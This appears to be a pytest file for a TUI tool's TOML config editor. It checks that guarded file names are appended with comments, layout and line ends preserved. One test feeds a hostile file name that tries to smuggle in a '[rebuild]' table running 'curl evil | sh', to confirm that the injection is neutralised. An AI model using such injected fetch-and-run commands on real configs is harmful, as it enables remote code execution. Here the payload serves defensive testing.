"""The Guard action's edit of omni-tui.toml: the files appended to `[guard] files`, everything else kept
as written (comments, inside the list too; other tables; order; the list's layout; CRLF line ends), and
refused, with the line to add by hand, when the result would not be the same configuration with just
the longer list."""

from __future__ import annotations

import tomllib

import pytest

from omni_tui.core.config import DEFAULT_GUARDED, config_from_bytes
from omni_tui.core.config_edit import with_guarded
from omni_tui.core.errors import ConfigError

DEFAULTS_PLUS = [*DEFAULT_GUARDED, "nix/db.nix"]


@pytest.mark.parametrize(
    ("before", "after"),
    [
        (None, '[guard]\nfiles = ["devenv.nix", "devenv.yaml", "devenv.local.nix", ".envrc", "nix/db.nix"]\n'),
        (
            '# mine\n[rebuild]\ncommand = "true"',
            '# mine\n[rebuild]\ncommand = "true"\n\n[guard]\nfiles = ["devenv.nix", "devenv.yaml", "devenv.local.nix", ".envrc", "nix/db.nix"]\n',
        ),
        (
            '[guard]\nmode = "guard"  # strict\n\n[ui]\ntheme = "omni-light"\n',
            '[guard]\nfiles = ["devenv.nix", "devenv.yaml", "devenv.local.nix", ".envrc", "nix/db.nix"]\nmode = "guard"  # strict\n\n'
            '[ui]\ntheme = "omni-light"\n',
        ),
        (
            '[guard]\nfiles = [\n  "devenv.nix",  # main ]\n  "we]ird.nix",\n]\nmode = "watch"\n[ui]\ntheme = "omni-light"\n',
            '[guard]\nfiles = [\n  "devenv.nix",  # main ]\n  "we]ird.nix",\n  "nix/db.nix",\n]\nmode = "watch"\n[ui]\ntheme = "omni-light"\n',
        ),
        (
            '[guard]\nfiles = [\n    "devenv.nix",\n    "b.nix"  # the database\n]\n',
            '[guard]\nfiles = [\n    "devenv.nix",\n    "b.nix",  # the database\n    "nix/db.nix"\n]\n',
        ),
        (
            '[guard]\nfiles = ["devenv.nix", ".envrc"]  # the two\n',
            '[guard]\nfiles = ["devenv.nix", ".envrc", "nix/db.nix"]  # the two\n',
        ),
        (
            '# mine\r\n[guard]  # strict\r\nfiles = [\r\n  "devenv.nix",\r\n]\r\n',
            '# mine\r\n[guard]  # strict\r\nfiles = [\r\n  "devenv.nix",\r\n  "nix/db.nix",\r\n]\r\n',
        ),
        (
            '[rebuild]\ncommand = "true"\n[guard]',
            '[rebuild]\ncommand = "true"\n[guard]\nfiles = ["devenv.nix", "devenv.yaml", "devenv.local.nix", ".envrc", "nix/db.nix"]\n',
        ),
    ],
    ids=[
        "no file",
        "no guard table",
        "guard without files",
        "a files list over lines",
        "over lines, no trailing comma",
        "on one line",
        "CRLF",
        "guard header last",
    ],
)
def test_the_files_are_appended_and_the_rest_kept(before: str | None, after: str) -> None:
    data, files = with_guarded(None if before is None else before.encode(), ["nix/db.nix", "devenv.nix"])
    assert data.decode() == after
    parsed = config_from_bytes("omni-tui.toml", data)
    assert parsed is not None and parsed.guard.files == files
    if before is not None:  # every other setting as it was
        old, new = tomllib.loads(before), tomllib.loads(after)
        old.setdefault("guard", {}).pop("files", None), new["guard"].pop("files")
        assert old == new


def test_a_hostile_file_name_stays_one_toml_string() -> None:
    data, files = with_guarded(b"", ['x"]\n[rebuild]\ncommand = "curl evil | sh".nix'])
    assert files[-1] == 'x"]\n[rebuild]\ncommand = "curl evil | sh".nix'
    assert config_from_bytes("omni-tui.toml", data).rebuild.command is None  # type: ignore[union-attr]


@pytest.mark.parametrize(
    "before",
    ['guard = { files = ["devenv.nix"] }\n', 'guard.files = ["devenv.nix"]\n', '[guard]\nfiles = "devenv.nix"\n'],
    ids=["inline table", "dotted keys", "not an array"],
)
def test_a_table_written_otherwise_is_refused_with_the_line_to_add(before: str) -> None:
    with pytest.raises(ConfigError, match=r'add by hand: files = \["devenv.nix", "nix/db.nix"\]|must be an array'):
        with_guarded(before.encode(), ["nix/db.nix"])
